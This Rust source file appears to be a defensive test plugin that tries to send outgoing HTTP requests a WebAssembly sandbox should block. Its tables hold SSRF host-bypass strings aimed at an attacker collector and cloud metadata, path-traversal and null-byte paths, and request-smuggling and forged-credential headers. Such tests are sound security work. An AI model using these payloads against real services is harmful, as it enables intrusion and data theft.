//! Requests that must not leave.
use caravan_sdk::bindings::wasi::http::outgoing_handler;
use caravan_sdk::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
use caravan_sdk::{Part, Settings, Target, log};

/// A request as it is put on the wire, without the SDK's encoding.
struct Raw<'a> {
    method: Method,
    scheme: Scheme,
    host: &'a str,
    path: String,
    headers: Vec<(&'a str, &'a [u8])>,
    body: Option<&'a [u8]>,
}

const HOST: &str = hostile_common::HOST;
const JSON: (&str, &[u8]) = ("content-type", b"application/json");

/// Hosts that are not the manifest's, however they are written.
const HOSTS: [(&str, &str); 17] = [
    ("userinfo", "graph.facebook.com@collector.attacker.example"),
    ("userinfo-before", "collector@graph.facebook.com"),
    ("odd-port", "graph.facebook.com:8443"),
    ("port-80", "graph.facebook.com:80"),
    ("trailing-dot", "graph.facebook.com."),
    ("idn", "graph.faceb\u{43e}\u{43e}k.com"),
    ("punycode", "graph.xn--facebk-0nfa.com"),
    ("subdomain", "graph.facebook.com.attacker.example"),
    ("prefix", "xgraph.facebook.com"),
    ("hex-address", "0x7f000001"),
    ("octal-address", "0177.0.0.1"),
    ("short-address", "127.1"),
    ("six-to-four", "[2002:7f00:1::]"),
    ("nat64", "[64:ff9b::7f00:1]"),
    ("metadata-name", "metadata.google.internal"),
    ("carrier-nat", "100.64.0.1"),
    ("unique-local", "[fd00:ec2::254]"),
];

/// Paths and queries that lead elsewhere than they seem to; `{}` is the step's own audience.
const PATHS: [(&str, &str); 12] = [
    ("traversal", "/v26.0/{}/../990000000000009/users"),
    ("encoded-traversal", "/v26.0/{}/%2e%2e/990000000000009/users"),
    ("encoded-slash", "/v26.0/{}%2f..%2f990000000000009/users"),
    ("backslash", "/v26.0/{}\\..\\990000000000009/users"),
    ("double-slash", "//v26.0/{}/users"),
    ("empty-segment", "/v26.0//{}/users"),
    ("semicolon", "/v26.0/{};990000000000009/users"),
    ("null-byte", "/v26.0/{}%00/users"),
    ("unasked-query", "/v26.0/{}/users?access_token=mine"),
    ("method-in-query", "/v26.0/{}/users?method=delete"),
    ("fragment", "/v26.0/990000000000009/users#/{}/users"),
    ("double-encoding", "/v26.0/{}%252f990000000000009/users"),
];

/// Headers that are the host's, or that make a server read another request than was checked.
const HEADERS: [(&str, &str, &[u8]); 15] = [
    ("own-token", "authorization", b"Bearer stolen"),
    ("cookie", "cookie", b"session=1"),
    ("host-header", "host", b"collector.attacker.example"),
    ("transfer-encoding", "transfer-encoding", b"chunked"),
    ("connection", "connection", b"upgrade"),
    ("upgrade", "upgrade", b"websocket"),
    ("override", "x-http-method-override", b"DELETE"),
    ("encoded-body", "content-encoding", b"gzip"),
    ("forwarded", "x-forwarded-host", b"collector.attacker.example"),
    ("underscored", "x_forwarded_host", b"collector.attacker.example"),
    ("account-in-header", "login-customer-id", b"990000000000009"),
    ("original-url", "x-original-url", b"/v26.0/990000000000009/users"),
    ("expect", "expect", b"100-continue"),
    ("second-length", "content-length", b"0"),
    ("second-type", "content-type", b"text/plain"),
];

/// Does a deed that is a request; false where it is none.
pub fn ask(deed: &str, _settings: &Settings, target: &Target, _part: &Part) -> bool {
    let users = format!("/v26.0/{}/users", target.audience);
    let plain = |method: Method, path: String, body: Option<&'static [u8]>| Raw {
        method,
        scheme: Scheme::Https,
        host: HOST,
        path,
        headers: vec![JSON],
        body,
    };
    if let Some((_, host)) = HOSTS.iter().find(|(name, _)| *name == deed) {
        return send(Raw { host, ..plain(Method::Post, users, Some(b"{}")) }, true);
    }
    if let Some((_, path)) = PATHS.iter().find(|(name, _)| *name == deed) {
        return send(plain(Method::Post, path.replace("{}", &target.audience), Some(b"{}")), true);
    }
    if let Some((_, name, value)) = HEADERS.iter().find(|(of, ..)| *of == deed) {
        let raw = Raw { headers: vec![JSON, (name, value)], ..plain(Method::Post, users, Some(b"{}")) };
        return send(raw, true);
    }
    let many: Vec<(&str, &[u8])> = (0..400).map(|_| ("x-flood", &b"1"[..])).collect();
    let large = vec![b'a'; 40_000];
    match deed {
        "plain-http" => send(Raw { scheme: Scheme::Http, ..plain(Method::Post, users, Some(b"{}")) }, true),
        "other-scheme" => send(Raw { scheme: Scheme::Other("ftp".into()), ..plain(Method::Get, users, None) }, true),
        "connect" => send(plain(Method::Connect, users, None), true),
        "trace" => send(plain(Method::Trace, users, None), true),
        "put" => send(plain(Method::Put, users, Some(b"{}")), true),
        "own-method" => send(plain(Method::Other("PO ST".into()), users, Some(b"{}")), true),
        "no-length" => send(plain(Method::Post, users, Some(b"{}")), false),
        "body-on-get" => send(plain(Method::Get, "/v26.0/me/adaccounts?fields=id&limit=1".into(), Some(b"{}")), true),
        "many-headers" => send(Raw { headers: many, ..plain(Method::Post, users, Some(b"{}")) }, true),
        "large-header" => {
            send(Raw { headers: vec![JSON, ("x-large", &large)], ..plain(Method::Post, users, Some(b"{}")) }, true)
        }
        "long-path" => send(plain(Method::Post, format!("{users}/{}", "a".repeat(20_000)), Some(b"{}")), true),
        // A path that fits its template in thousands of ways but for the last letter.
        "any-bomb" => send(plain(Method::Get, format!("/bomb/{}", "a".repeat(8_000)), None), true),
        "too-much-said" => send(plain(Method::Post, users, Some(b"{\"payload\":\"longer than it says\"}")), false),
        "second-write" => {
            send(plain(Method::Post, users.clone(), Some(b"{}")), true);
            send(plain(Method::Post, users, Some(b"{}")), true)
        }
        _ => false,
    }
}

/// Sends a request, with or without its true length.
fn send(raw: Raw<'_>, with_length: bool) -> bool {
    if let Err(what) = try_send(raw, with_length) {
        log::info(format!("not sent: {what}"));
    }
    true
}

fn try_send(raw: Raw<'_>, with_length: bool) -> Result<(), &'static str> {
    let fields = Fields::new();
    for (name, value) in &raw.headers {
        fields.append(name, value).map_err(|_| "a header")?;
    }
    if let Some(body) =
        raw.body.filter(|_| with_length && !raw.headers.iter().any(|(name, _)| *name == "content-length"))
    {
        fields.append("content-length", body.len().to_string().as_bytes()).map_err(|_| "the length")?;
    }
    let request = OutgoingRequest::new(fields);
    request.set_method(&raw.method).map_err(|()| "the method")?;
    request.set_scheme(Some(&raw.scheme)).map_err(|()| "the scheme")?;
    request.set_authority(Some(raw.host)).map_err(|()| "the host")?;
    request.set_path_with_query(Some(&raw.path)).map_err(|()| "the path")?;
    let outgoing = raw.body.map(|_| request.body()).transpose().map_err(|()| "the body")?;
    let pending = outgoing_handler::handle(request, None).map_err(|_| "refused at once")?;
    if let (Some(bytes), Some(outgoing)) = (raw.body, outgoing) {
        let stream = outgoing.write().map_err(|()| "the body's stream")?;
        let _ = stream.blocking_write_and_flush(bytes);
        drop(stream);
        let _ = OutgoingBody::finish(outgoing, None);
    }
    loop {
        match pending.get() {
            Some(Ok(Ok(answer))) => {
                log::error(format!("reached: {}", answer.status()));
                return Ok(());
            }
            Some(_) => return Err("refused"),
            None => pending.subscribe().block(),
        }
    }
}
